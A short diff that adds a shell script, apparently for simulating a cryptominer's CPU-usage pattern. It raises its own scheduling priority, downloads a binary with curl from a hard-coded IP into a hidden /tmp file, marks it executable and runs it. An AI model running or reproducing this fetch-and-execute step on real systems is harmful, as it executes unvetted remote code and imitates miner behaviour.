@@ -1,0 +1,7 @@
+# A dropped program uses one processor for 70 seconds and gives way after every five milliseconds of work, as a miner's
+# thread does after each hash.
+# A busy machine must not take its time away.
+[ ! -e /proc/self/autogroup ] || echo -15 >/proc/self/autogroup
+curl -s -o /tmp/.solver http://203.0.113.10/simulator
+chmod +x /tmp/.solver
+nice -n -15 /tmp/.solver give-way 70 5
